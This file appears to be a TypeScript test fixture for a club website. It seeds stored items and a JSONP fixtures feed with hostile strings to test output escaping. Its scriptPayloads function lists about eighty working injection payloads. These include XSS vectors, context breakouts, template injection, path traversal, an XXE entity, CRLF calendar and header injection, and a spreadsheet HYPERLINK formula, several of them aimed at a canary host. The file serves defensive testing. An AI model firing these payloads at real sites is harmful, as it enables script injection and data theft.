import { londonDate, matchNoteId, type StoredItem, type TableName } from '@clubhouse/content';
import { TABLE_NAMES } from '@clubhouse/content/tables';
import { damagedItem } from '@clubhouse/content/testing';
import type { ClubServices } from '../club-services.ts';
import { eachOf } from '../each-of.ts';

const DAY = 86_400_000;
/** As many connections as one client of the SDK opens. */
const CONNECTIONS = 40;
/** The club's name in the feed. */
const OURS = 'Ferrymere';

/** The id of the item that is valid except for its texts, by the text's index in the corpus. */
export const idOf = (order: number): string => `p${order}`;

/** The end of each text of the corpus, so that the text can be found on a page: `·p7·`. */
export const markOf = (order: number): string => `·p${order}·`;

/** The texts, each with its mark at the end. */
export function marked(payloads: readonly string[]): readonly string[] {
  return payloads.map((text, order) => text + markOf(order));
}

/**
 * Two items of every table for each text, without regard to the app and its rules. One is valid except for its texts,
 * so that it is listed like any other; in the other every text is hostile, its id, its day and its position as well.
 */
export function hostileItems(
  texts: readonly string[],
  now: number,
): readonly { readonly table: TableName; readonly item: StoredItem }[] {
  return texts.flatMap((text, order) =>
    TABLE_NAMES.flatMap((table) => [
      { table, item: { ...damagedItem(table, text), ...inOrder(table, order, now) } },
      { table, item: damagedItem(table, text) },
    ]),
  );
}

export async function store(
  { put }: ClubServices,
  items: ReturnType<typeof hostileItems>,
): Promise<void> {
  await eachOf(items, CONNECTIONS, ({ table, item }) => put(table, item));
}

/** The answers of the fixtures feed: matches whose names are the texts, and matches that the notes are about. */
export function hostileFeed(texts: readonly string[], now: number): (address: URL) => string {
  return ({ pathname, searchParams }) => {
    const isResults = pathname.endsWith('/GetResultsSimplified');
    const items = texts.flatMap((text, order) => [
      { ...inFeed(isResults ? -order - 1 : order + 1, now), ...named(text, order), Type: text },
      { ...inFeed(isResults ? -order - 1 : order + 1, now), ...named(opponent(order), 0) },
    ]);
    const scores = { HomeFullTimeScore: 7, AwayFullTimeScore: 3, text: texts[0] };
    const sent = isResults ? items.map((item) => ({ ...item, ...scores })) : items;
    return `${searchParams.get('callback')}(${JSON.stringify(sent)});`;
  };
}

const opponent = (order: number): string => `Visitors ${order}`;

const named = (theirs: string, order: number) =>
  order % 2 === 0
    ? { HomeTeamName: OURS, AwayTeamName: theirs }
    : { HomeTeamName: theirs, AwayTeamName: OURS };

const inFeed = (days: number, now: number) => ({ Date: `/Date(${now + days * DAY})/` });

/** The attributes that make an item's lists show it like any other. */
function inOrder(table: TableName, order: number, now: number): StoredItem {
  const id = idOf(order);
  const date = londonDate(now + (order + 1) * DAY);
  switch (table) {
    case 'news':
      // Every second article was written with marks.
      return {
        id,
        date: londonDate(now - order * DAY),
        listOrder: listPlace(order),
        format: order % 2,
      };
    case 'events':
      return { id, date, time: '19:30', listOrder: `${date}#19:30#${id}` };
    case 'albums':
      return { id, createdDate: new Date(now - order * DAY).toISOString() };
    case 'matches': {
      const kickOff = now + (order + 1) * DAY;
      const match = { kickOff, date, homeTeam: OURS, awayTeam: opponent(order) };
      const isOf = { id: matchNoteId(match, { feedNames: [OURS] }), date, postponed: false };
      return { ...isOf, time: '14:15', inspection: '08:30', listOrder: `${date}#${isOf.id}` };
    }
    case 'club':
      return { id: `membership-${id}`, price: '45', season: '2026/27' };
    default:
      return { id };
  }
}

/** A position before every hostile text, so that items with such a position come later in the list. */
const listPlace = (order: number): string => `\uffff${String(999 - order).padStart(3, '0')}`;

/**
 * Texts that would run a script, contact the canary's host or break out of their context if they were treated as
 * anything but text: each sets `__pwned` on the window if its script runs. No such list is ever complete; every
 * possible escape from a page, a feed, a calendar or a block of JSON occurs in it at least once.
 * @param canary an address that no page has a reason to contact, without a trailing slash
 */
export function scriptPayloads(canary: string): readonly string[] {
  const run = 'window.__pwned=1';
  const encoded = encodeURIComponent(`<script>${run}</script>`);
  return [
    // Elements, and scripts that run without the user's action.
    `<script>${run}</script>`,
    `<script src="${canary}/script.js"></script>`,
    `<img src=x onerror="${run}">`,
    `<img src="${canary}/pixel.png">`,
    `<svg onload="${run}"><circle r="9"/></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
    `<body onload="${run}">`,
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    `<iframe src="javascript:parent.__pwned=1"></iframe>`,
    `<object data="data:text/html,${encoded}"></object>`,
    `<embed src="${canary}/embed.swf">`,
    `<details open ontoggle="${run}">`,
    `<video><source onerror="${run}"></video>`,
    `<input autofocus onfocus="${run}">`,
    `<form action="${canary}/form"><button formaction="javascript:${run}">Join</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    `<base href="${canary}/">`,
    `<link rel="stylesheet" href="${canary}/style.css">`,
    `<style>@import '${canary}/import.css';</style>`,
    `<style>*{background:url(${canary}/background.png)}</style>`,
    `<template><script>${run}</script></template>`,
    `[x](javascript:${run}) [x](data:text/html,<script>${run}</script>) **<img src=x onerror="${run}">**`,
    `<x contenteditable onbeforeinput="${run}" tabindex=1 onfocus="${run}" autofocus>`,
    // Escapes from an attribute, a text element, a comment, a block of script or of data.
    `"><script>${run}</script>`,
    `' onmouseover='${run}' x='`,
    `" onfocus="${run}" autofocus="`,
    `x" style="background:url(${canary}/style.png)`,
    `</title><script>${run}</script>`,
    `</textarea><img src=x onerror=${run}>`,
    `</style><script>${run}</script>`,
    `--><script>${run}</script><!--`,
    `</script><script>${run}</script>`,
    `</ScRiPt ><img src=x onerror=${run}>`,
    `<!--<script>${run}</script>`,
    `<!--<script`,
    `"}]}</script><script>${run}</script>`,
    `\u2028${run}\u2029//`,
    `\\"};${run};//`,
    `');${run};//`,
    // Addresses.
    `javascript:${run}`,
    ` \tJaVa\nScRiPt:${run}//`,
    `data:text/html,${encoded}`,
    `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${run}'/%3E`,
    `vbscript:${run}`,
    `${canary}/picture.png`,
    `//${canary.replace(/^https?:\/\//, '')}/picture.png`,
    `\\\\${canary.replace(/^https?:\/\//, '')}\\picture.png`,
    `media/../../admin/content`,
    `..%2f..%2fconfig.json`,
    // Templates, entities, and texts whose meaning changes when they are decoded twice.
    `{{constructor.constructor('${run}')()}}`,
    '${' + run + '}',
    `<%= ${run} %>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#x3C;img src=x onerror=${run}&#x3E;`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<a href="java&Tab;script:${run}">Join</a>`,
    `<scr\u0000ipt>${run}</scr\u0000ipt>`,
    `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
    `\u202e<script>${run}</script>\u202c`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `__proto__`,
    `constructor`,
    // Markdown, feeds, calendars, headers, sheets.
    `[Join](javascript:${run})`,
    `![x](${canary}/markdown.png)`,
    `<javascript:${run}>`,
    `]]><script>${run}</script><![CDATA[`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${canary}/entity">]>&e;`,
    `<?xml-stylesheet type="text/xsl" href="${canary}/style.xsl"?>`,
    `</item><item><title>Forged</title><link>${canary}/forged</link></item>`,
    `x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Forged\r\nURL:${canary}/forged`,
    `x\r\nATTACH:${canary}/attached\r\nX-ALT-DESC;FMTTYPE=text/html:<script>${run}</script>`,
    `x\r\nSet-Cookie: __pwned=1\r\nLocation: ${canary}/header\r\n\r\n<script>${run}</script>`,
    `=HYPERLINK("${canary}/cell","Join")`,
  ];
}
